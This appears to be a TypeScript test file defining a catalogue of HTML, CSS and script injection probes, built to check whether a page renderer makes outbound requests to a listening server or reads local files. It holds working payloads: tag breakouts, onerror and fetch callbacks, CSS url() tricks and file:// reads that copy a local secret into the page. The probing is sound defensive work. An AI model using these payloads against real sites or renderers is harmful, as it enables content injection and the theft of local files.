/**
 * Ways for a text to make a page ask for something, one address each: `at` is a listening server's, `secret` a
 * file of this machine. What is asked for over http stands under the probe's own id.
 */
export interface Probe {
  readonly id: string;
  markup(at: string, secret: string): string;
}

const http = (id: string, markup: (address: string, id: string) => string): Probe => ({
  id,
  markup: (at) => markup(`${at}/${id}`, id),
});
const file = (id: string, markup: (secret: string) => string): Probe => ({
  id,
  markup: (_, secret) => markup(secret),
});
const css = (id: string, declaration: (address: string) => string): Probe =>
  http(id, (address) => `<style>#p-${id}{${declaration(address)}}</style><b id="p-${id}">x</b>`);
const script = (id: string, code: (address: string) => string): Probe =>
  http(id, (address) => `<script>${code(address)}</script>`);

const STRING = (address: string) => JSON.stringify(address);

export const PROBES: readonly Probe[] = [
  http("img", (a) => `<img src="${a}">`),
  http("img-srcset", (a) => `<img srcset="${a} 1x">`),
  http("picture", (a) => `<picture><source srcset="${a}"><img src="data:,"></picture>`),
  http("attribute-break", (a) => `"><img src="${a}">`),
  http("attribute-break-single", (a) => `'><img src='${a}'>`),
  http("title-break", (a) => `</title><img src="${a}">`),
  http("style-break", (a) => `</style><img src="${a}">`),
  http("script-break", (a) => `</script><img src="${a}">`),
  http("comment-break", (a) => `--><img src="${a}">`),
  http("textarea-break", (a) => `</textarea><img src="${a}">`),
  http("iframe", (a) => `<iframe src="${a}"></iframe>`),
  http("iframe-srcdoc", (a) => `<iframe srcdoc="<img src='${a}'>"></iframe>`),
  http("iframe-data", (a) => `<iframe src="data:text/html,<img src='${a}'>"></iframe>`),
  http("object", (a) => `<object data="${a}"></object>`),
  http("embed", (a) => `<embed src="${a}">`),
  http("stylesheet", (a) => `<link rel="stylesheet" href="${a}">`),
  http("icon", (a) => `<link rel="icon" href="${a}">`),
  http("prefetch", (a) => `<link rel="prefetch" href="${a}">`),
  http("preload", (a) => `<link rel="preload" as="image" href="${a}">`),
  http("modulepreload", (a) => `<link rel="modulepreload" href="${a}">`),
  http("prerender", (a) => `<link rel="prerender" href="${a}">`),
  http("preconnect", (a) => `<link rel="preconnect" href="${a}"><link rel="dns-prefetch" href="${a}">`),
  http("manifest", (a) => `<link rel="manifest" href="${a}">`),
  http("import-map", (a) => `<script type="module">import ${STRING(a)}</script>`),
  http(
    "speculation",
    (a) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":[${STRING(a)}]}]}</script>`,
  ),
  http("script-src", (a) => `<script src="${a}"></script>`),
  http("video", (a) => `<video src="${a}" autoplay></video>`),
  http("video-poster", (a) => `<video poster="${a}"></video>`),
  http("audio", (a) => `<audio src="${a}" autoplay></audio>`),
  http("track", (a) => `<video src="data:video/mp4," ><track default src="${a}"></video>`),
  http("input-image", (a) => `<input type="image" src="${a}">`),
  http("table-background", (a) => `<table background="${a}"><tr><td>x</td></tr></table>`),
  http("svg-image", (a) => `<svg width="9" height="9"><image href="${a}" width="9" height="9"/></svg>`),
  http("svg-xlink", (a) => `<svg width="9" height="9"><image xlink:href="${a}" width="9" height="9"/></svg>`),
  http("svg-use", (a) => `<svg width="9" height="9"><use href="${a}#u"/></svg>`),
  http(
    "svg-fe-image",
    (a) =>
      `<svg width="9" height="9"><filter id="f"><feImage href="${a}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  ),
  http("svg-script", (a) => `<svg><script href="${a}"></script></svg>`),
  http("svg-foreign", (a) => `<svg><foreignObject><img src="${a}"></foreignObject></svg>`),
  http("image-onerror", (a) => `<img src="data:," onerror='fetch(${STRING(a)})'>`),
  http("svg-onload", (a) => `<svg onload='fetch(${STRING(a)})'></svg>`),
  http("details-ontoggle", (a) => `<details open ontoggle='fetch(${STRING(a)})'>x</details>`),
  http("autofocus", (a) => `<input autofocus onfocus='fetch(${STRING(a)})'>`),
  http(
    "form-submit",
    (a) =>
      `<form action="${a}" id="f1"></form><script>document.getElementById("f1").submit.call</script><iframe name="t"></iframe><form target="t" action="${a}" id="f2"></form><script>document.getElementById("f2").submit()</script>`,
  ),
  css("css-background", (a) => `background:url(${a})`),
  css("css-background-quoted", (a) => `background-image:url("${a}")`),
  css("css-image-set", (a) => `background-image:image-set("${a}" 1x)`),
  css("css-cross-fade", (a) => `background-image:-webkit-cross-fade(url(${a}),url(${a}),50%)`),
  css("css-escape", (a) => `background:u\\72l(${a})`),
  css("css-list", (a) => `display:list-item;list-style-image:url(${a})`),
  css("css-border", (a) => `border:1px solid;border-image:url(${a}) 1`),
  css("css-mask", (a) => `mask:url(${a})`),
  css("css-shape", (a) => `float:left;shape-outside:url(${a})`),
  css("css-cursor", (a) => `cursor:url(${a}),auto`),
  css("css-variable", (a) => `--x:url(${a});background:var(--x)`),
  http("css-content", (a) => `<style>#pc::before{content:url(${a})}</style><b id="pc">x</b>`),
  http("css-import", (a) => `<style>@import "${a}";</style>`),
  http("css-import-layer", (a) => `<style>@import url(${a}) layer(x);</style>`),
  http(
    "css-font",
    (a) => `<style>@font-face{font-family:Q;src:url(${a})}#pf{font-family:Q}</style><b id="pf">x</b>`,
  ),
  http("css-margin-box", (a) => `<style>@page{@top-left{content:url(${a})}}</style>`),
  http("css-print", (a) => `<style>@media print{body{background:url(${a})}}</style>`),
  http("style-attribute", (a) => `<b style="background:url(${a})">x</b>`),
  script("fetch", (a) => `fetch(${STRING(a)})`),
  script("xhr", (a) => `const r=new XMLHttpRequest();r.open("GET",${STRING(a)});r.send()`),
  script("beacon", (a) => `navigator.sendBeacon(${STRING(a)},"x")`),
  script("new-image", (a) => `new Image().src=${STRING(a)}`),
  script("websocket", (a) => `new WebSocket(${STRING(a.replace(/^http/, "ws"))})`),
  script("event-source", (a) => `new EventSource(${STRING(a)})`),
  script("worker", (a) => `new Worker(URL.createObjectURL(new Blob(['fetch(${STRING(a)})'])))`),
  script("document-write", (a) => `document.write('<img src=${STRING(a)}>')`),
  file("file-iframe", (secret) => `<iframe src="${secret}" width="600"></iframe>`),
  file("file-capitals", (secret) => `<iframe src="${secret.replace(/^file/, "FILE")}" width="600"></iframe>`),
  file("file-object", (secret) => `<object data="${secret}" type="text/plain" width="600"></object>`),
  file("file-embed", (secret) => `<embed src="${secret}" type="text/plain" width="600">`),
  file("file-stylesheet", (secret) => `<link rel="stylesheet" href="${secret}">`),
  file(
    "file-xhr",
    (secret) =>
      `<script>fetch(${STRING(secret)}).then(r=>r.text()).then(t=>document.body.append(t))</script>`,
  ),
  http("template", (a) => `{{{title}}}{{> ../../secret}}<img src="${a}">`),
  // Each of these makes a page of its own: what stands after a base or a refresh is no longer what it was.
  http("base", (a) => `<base href="${a}/"><img src="relative">`),
  http("meta-refresh", (a) => `<meta http-equiv="refresh" content="0;url=${a}">`),
  http("location", (a) => `<script>location=${STRING(a)}</script>`),
];

/** Probes that take the page elsewhere. */
export const TURNS: ReadonlySet<string> = new Set(["base", "meta-refresh", "location"]);

/** A document that holds the probes as they are, as a careless template would. */
export function pageOf(probes: readonly Probe[], at: string, secret: string): string {
  const body = probes.map(({ markup }) => markup(at, secret)).join("\n");
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Probes</title></head><body><p>Visible text</p>${body}</body></html>`;
}
